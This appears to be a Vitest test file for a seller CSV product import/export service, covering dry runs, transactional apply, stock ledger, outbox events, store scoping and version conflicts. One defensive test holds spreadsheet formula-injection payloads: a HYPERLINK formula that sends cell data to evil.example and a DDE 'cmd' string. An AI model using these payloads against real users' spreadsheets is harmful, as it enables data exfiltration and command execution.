// CSV import and export on both backends: dry run, apply in one transaction, the ledger and
// outbox, store scoping, and refusal when the catalogue changed between dry run and apply.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inTransaction } from "@/server/db/transaction";
import { backends, openTestDb, type TestDb } from "@/test/backends";
import { adjustStock } from "@/server/services/inventory/adjust-stock";
import { updateVariantPrice } from "@/server/services/inventory/update-price";
import { parseCsv, serializeCsv } from "./csv";
import { COLUMN_NAMES } from "./format";
import { exportProductsCsv } from "./export-products";
import { applyImport, dryRunImport, type ImportProgress } from "./import-products";
import { appErrorOf } from "@/test/errors";

const enc = (s: string) => new TextEncoder().encode(s);
const col = (name: (typeof COLUMN_NAMES)[number]) => COLUMN_NAMES.indexOf(name);


function row(values: Partial<Record<(typeof COLUMN_NAMES)[number], string>>): string[] {
  const base: Record<string, string> = {
    product_slug: "",
    product_title: "",
    category: "t-shirts",
    status: "DRAFT",
    description: "",
    brand: "",
    sku: "",
    variant_title: "",
    options: "",
    price: "10.00",
    currency: "USD",
    stock: "0",
    low_stock_threshold: "5",
    ...values,
  };
  return COLUMN_NAMES.map((c) => base[c]!);
}
const file = (...rows: string[][]) => enc(serializeCsv([[...COLUMN_NAMES], ...rows]));

describe.each(backends())("seller catalog import on %s", (backend) => {
  let t: TestDb;
  let seller: { userId: string; storeId: string };
  let otherStoreId: string;
  let otherSeller: { userId: string; storeId: string };
  const OTHER_SELLER = () => otherSeller;
  let seq = 0;
  const tag = () => `${backend}-${++seq}`;

  const ledgerSum = async (variantId: string) =>
    (await t.db.inventoryMovement.aggregate({ where: { variantId }, _sum: { delta: true } }))._sum.delta ?? 0;
  const exportRecords = async (storeId = seller.storeId) => parseCsv(await exportProductsCsv(t.db, storeId, {})).map((r) => r.fields);
  async function snapshot() {
    return {
      products: await t.db.product.findMany({ where: { storeId: seller.storeId }, orderBy: { id: "asc" }, select: { id: true, version: true, title: true, status: true } }),
      variants: await t.db.variant.findMany({
        where: { product: { storeId: seller.storeId } },
        orderBy: { id: "asc" },
        select: { id: true, stock: true, priceMinor: true, version: true, title: true },
      }),
      movements: await t.db.inventoryMovement.count(),
      outbox: await t.db.outboxEvent.count(),
      audit: await t.db.auditLog.count(),
    };
  }

  beforeAll(async () => {
    t = await openTestDb(backend);
    const s1 = await t.db.store.findFirstOrThrow({ where: { owner: { email: "seller1@livemarket.test" } }, select: { id: true, ownerId: true } });
    const s2 = await t.db.store.findFirstOrThrow({ where: { owner: { email: "seller2@livemarket.test" } }, select: { id: true, ownerId: true } });
    otherSeller = { userId: s2.ownerId, storeId: s2.id };
    seller = { userId: s1.ownerId, storeId: s1.id };
    otherStoreId = s2.id;
  });
  afterAll(async () => {
    await t?.close();
  });

  it("refuses an apply token made by another user (a dry run of the same file in their own store), changing nothing", async () => {
    const k = tag();
    const bytes = file(row({ product_slug: `forged-${k}`, product_title: "Forged", sku: `FORGED-${k}`, status: "ACTIVE", price: "1.00", stock: "5" }));
    // The attacker runs the dry run as themselves; the seller's browser is made to apply it.
    const theirs = await dryRunImport(t.db, OTHER_SELLER(), bytes);
    const before = await snapshot();
    const err = await appErrorOf(inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, theirs.token)));
    expect(err.code).toBe("VERSION_CONFLICT");
    expect(await snapshot()).toEqual(before);
    expect(await t.db.product.count({ where: { slug: `forged-${k}` } })).toBe(0);
    // The seller's own dry run's token does apply.
    const mine = await dryRunImport(t.db, seller, bytes);
    expect(mine.token).not.toBe(theirs.token);
    await inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, mine.token));
    expect(await t.db.product.count({ where: { slug: `forged-${k}` } })).toBe(1);
  });

  it("round trip: importing the store's own export finds nothing to change and changes nothing", async () => {
    const csv = await exportProductsCsv(t.db, seller.storeId, {});
    const lines = parseCsv(csv).length - 1;
    expect(lines).toBeGreaterThan(50);
    const dry = await dryRunImport(t.db, seller, enc(csv));
    expect(dry.errors).toEqual([]);
    expect(dry.counts).toMatchObject({ create: 0, update: 0, unchanged: lines, productsCreate: 0, productsUpdate: 0 });
    const before = await snapshot();
    await inTransaction(t.db, (tx) => applyImport(tx, seller, enc(csv), dry.token));
    const after = await snapshot();
    expect(after.products).toEqual(before.products);
    expect(after.variants).toEqual(before.variants);
    expect(after.movements).toBe(before.movements);
    expect(after.outbox).toBe(before.outbox);
    expect(await exportProductsCsv(t.db, seller.storeId, {})).toBe(csv);
  });

  it("exports formula-looking cells neutralised for spreadsheets, and imports its own export back unchanged", async () => {
    const k = tag();
    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tTAB", "'=already quoted"];
    const bytes = file(
      ...titles.map((title, i) =>
        row({ product_slug: `formula-${k}-${i}`, product_title: title, brand: "=cmd", description: "\r=CR", sku: `F-${k}-${i}`, price: "1.00", stock: "1" }),
      ),
    );
    const dry = await dryRunImport(t.db, seller, bytes);
    expect(dry.errors).toEqual([]);
    await inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token));
    const csv = await exportProductsCsv(t.db, seller.storeId, { q: `F-${k}-` });
    const cells = parseCsv(csv).flatMap((r) => r.fields);
    expect(cells).toContain(`F-${k}-5`);
    // No cell of the file starts with what a spreadsheet would run.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain("'=cmd");
    // The store's own export imports back with nothing to change, and the values are the seller's.
    const again = await dryRunImport(t.db, seller, enc(csv));
    expect(again.errors).toEqual([]);
    expect(again.counts).toMatchObject({ create: 0, update: 0, unchanged: titles.length });
    const stored = await t.db.product.findMany({ where: { slug: { startsWith: `formula-${k}-` } }, orderBy: { slug: "asc" }, select: { title: true, brand: true } });
    expect(stored.map((p) => p.title)).toEqual(titles.map((x) => x.trim()));
    expect(stored.every((p) => p.brand === "=cmd")).toBe(true);
  });

  it("creates products and variants, with opening stock through the ledger and an audit entry", async () => {
    const k = tag();
    const bytes = file(
      row({ product_slug: `new-tee-${k}`, product_title: "New, \"quoted\" tee", description: "Line one\nline two", sku: `NEW-${k}-S`, options: "size=S", price: "12.50", stock: "4" }),
      row({ product_slug: `new-tee-${k}`, product_title: "New, \"quoted\" tee", description: "Line one\nline two", sku: `NEW-${k}-M`, options: "size=M", price: "12.5", stock: "0" }),
    );
    const dry = await dryRunImport(t.db, seller, bytes);
    expect(dry).toMatchObject({ rowCount: 2, errors: [], counts: { create: 2, update: 0, unchanged: 0, productsCreate: 1, stockChanges: 1 } });
    expect(await t.db.product.count({ where: { slug: `new-tee-${k}` } })).toBe(0);

    const progress: ImportProgress[] = [];
    const audits = await t.db.auditLog.count({ where: { action: "catalog.import" } });
    const res = await inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token, (p) => progress.push(p)));
    expect(res.counts).toEqual(dry.counts);
    expect(progress.at(-1)?.phase).toBe("done");
    const p = await t.db.product.findUniqueOrThrow({
      where: { slug: `new-tee-${k}` },
      select: { storeId: true, title: true, description: true, version: true, status: true, category: { select: { slug: true } }, variants: { orderBy: { position: "asc" } } },
    });
    expect(p).toMatchObject({ storeId: seller.storeId, title: 'New, "quoted" tee', description: "Line one\nline two", version: 1, status: "DRAFT", category: { slug: "t-shirts" } });
    expect(p.variants.map((v) => [v.sku, v.priceMinor, v.stock, v.options])).toEqual([
      [`NEW-${k}-S`, 1250, 4, { size: "S" }],
      [`NEW-${k}-M`, 1250, 0, { size: "M" }],
    ]);
    for (const v of p.variants) expect(await ledgerSum(v.id)).toBe(v.stock);
    expect(await t.db.inventoryMovement.findFirst({ where: { variantId: p.variants[0]!.id }, select: { reason: true, actorId: true } })).toEqual({
      reason: "IMPORT",
      actorId: seller.userId,
    });
    expect(await t.db.auditLog.count({ where: { action: "catalog.import" } })).toBe(audits + 1);
  });

  it("updates titles, prices, thresholds and stock: ledger, outbox events, version bumps", async () => {
    const records = await exportRecords();
    const [target] = records.slice(1).filter((r) => Number(r[col("stock")]) >= 2);
    const sku = target![col("sku")]!;
    const before = await t.db.variant.findUniqueOrThrow({ where: { sku }, select: { id: true, stock: true, priceMinor: true, version: true, product: { select: { id: true, version: true } } } });
    const changed = [...target!];
    changed[col("product_title")] = `${changed[col("product_title")]} (renamed)`;
    changed[col("price")] = "99.99";
    changed[col("stock")] = String(before.stock - 2);
    changed[col("low_stock_threshold")] = "9";
    const siblings = records.slice(1).filter((r) => r[col("product_slug")] === target![col("product_slug")] && r !== target);
    const siblingsRenamed = siblings.map((r) => r.map((v, i) => (i === col("product_title") ? changed[col("product_title")]! : v)));
    const bytes = file(changed, ...siblingsRenamed);

    const dry = await dryRunImport(t.db, seller, bytes);
    expect(dry.errors).toEqual([]);
    expect(dry.counts).toMatchObject({ create: 0, update: 1 + siblings.length, unchanged: 0, productsUpdate: 1, stockChanges: 1, priceChanges: 1 });
    const outboxBefore = await t.db.outboxEvent.count();
    await inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token));

    const after = await t.db.variant.findUniqueOrThrow({
      where: { sku },
      select: { id: true, productId: true, stock: true, priceMinor: true, lowStockThreshold: true, version: true, product: { select: { version: true, title: true } } },
    });
    expect(after).toMatchObject({ stock: before.stock - 2, priceMinor: 9999, lowStockThreshold: 9, version: before.version + 1 });
    expect(after.product).toEqual({ version: before.product.version + 1, title: changed[col("product_title")] });
    expect(await ledgerSum(after.id)).toBe(after.stock);
    const events = await t.db.outboxEvent.findMany({ where: { id: { gt: BigInt(0) }, aggregateId: after.id }, orderBy: { id: "desc" }, take: 2 });
    // The variant's two live-state events and the product's product.updated (for webhooks).
    expect(await t.db.outboxEvent.count()).toBe(outboxBefore + 3);
    expect(events.map((e) => e.topic).sort()).toEqual(["price.changed", "stock.changed"]);
    const productEvent = await t.db.outboxEvent.findFirstOrThrow({ where: { topic: "product.updated", aggregateId: after.productId }, orderBy: { id: "desc" } });
    expect(productEvent.payload).toMatchObject({ productId: after.productId, version: after.product.version, title: after.product.title, change: "updated" });
    const stockEvent = events.find((e) => e.topic === "stock.changed")!.payload as Record<string, unknown>;
    expect(stockEvent).toMatchObject({ variantId: after.id, stock: after.stock, delta: -2, reason: "IMPORT", version: after.version });
  });

  it("refuses another store's sku and slug, duplicates in the file and unknown categories, by line", async () => {
    const theirs = await t.db.variant.findFirstOrThrow({ where: { product: { storeId: otherStoreId } }, select: { sku: true, product: { select: { slug: true } } } });
    const k = tag();
    const bytes = file(
      row({ product_slug: `mine-${k}`, product_title: "Mine", sku: theirs.sku }),
      row({ product_slug: theirs.product.slug, product_title: "Theirs", sku: `OWN-${k}` }),
      row({ product_slug: `dup-${k}`, product_title: "Dup", sku: `DUP-${k}` }),
      row({ product_slug: `dup-${k}`, product_title: "Dup", sku: `DUP-${k}` }),
      row({ product_slug: `cat-${k}`, product_title: "Cat", category: "no-such-category", sku: `CAT-${k}` }),
      row({ product_slug: `fine-${k}`, product_title: "Fine", sku: `FINE-${k}` }),
    );
    const dry = await dryRunImport(t.db, seller, bytes);
    expect(dry.errors).toEqual([
      { line: 2, column: "sku", message: "SKU already in use" },
      { line: 3, column: "product_slug", message: "Product slug already in use by another store" },
      { line: 5, column: "sku", message: `Duplicate sku "DUP-${k}": already on line 4` },
      { line: 6, column: "category", message: 'Unknown category "no-such-category"' },
    ]);
    expect(dry.counts.create).toBe(2);

    // All or nothing: the good rows are not applied either.
    const before = await snapshot();
    const err = await appErrorOf(inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token)));
    expect(err.code).toBe("VALIDATION");
    expect(await snapshot()).toEqual(before);
    expect(await t.db.product.count({ where: { slug: `fine-${k}` } })).toBe(0);
  });

  it("refuses to apply when a product changed between dry run and apply, and applies after a new dry run", async () => {
    const records = await exportRecords();
    const target = records[1]!;
    const changed = [...target];
    changed[col("price")] = "55.55";
    const bytes = file(changed);
    const dry = await dryRunImport(t.db, seller, bytes);
    expect(dry.counts.update).toBe(1);

    const v = await t.db.variant.findUniqueOrThrow({ where: { sku: target[col("sku")]! }, select: { id: true, priceMinor: true, product: { select: { version: true } } } });
    await inTransaction(t.db, (tx) => updateVariantPrice(tx, seller, { variantId: v.id, priceMinor: v.priceMinor + 1, expectedVersion: v.product.version }));
    const before = await snapshot();
    const err = await appErrorOf(inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token)));
    expect(err.code).toBe("VERSION_CONFLICT");
    expect(err.message).toMatch(/new dry run/);
    expect(await snapshot()).toEqual(before);

    const again = await dryRunImport(t.db, seller, bytes);
    await inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, again.token));
    expect((await t.db.variant.findUniqueOrThrow({ where: { id: v.id }, select: { priceMinor: true } })).priceMinor).toBe(5555);
  });

  it("refuses to apply when stock moved (e.g. a sale or an adjustment) after the dry run", async () => {
    const records = await exportRecords();
    const target = records.slice(1).find((r) => Number(r[col("stock")]) >= 3)!;
    const changed = [...target];
    changed[col("stock")] = String(Number(target[col("stock")]) + 10);
    const bytes = file(changed);
    const dry = await dryRunImport(t.db, seller, bytes);
    const v = await t.db.variant.findUniqueOrThrow({ where: { sku: target[col("sku")]! }, select: { id: true, stock: true } });
    await inTransaction(t.db, (tx) => adjustStock(tx, seller, { variantId: v.id, delta: -1, reason: "DAMAGE" }));
    const err = await appErrorOf(inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token)));
    expect(err.code).toBe("VERSION_CONFLICT");
    expect((await t.db.variant.findUniqueOrThrow({ where: { id: v.id }, select: { stock: true } })).stock).toBe(v.stock - 1);
  });

  it("refuses a malformed file before looking anything up", async () => {
    const err = await appErrorOf(dryRunImport(t.db, seller, enc("sku,price\nA,1\n")));
    expect(err.code).toBe("VALIDATION");
    expect(err.message).toMatch(/Missing columns/);
  });
});
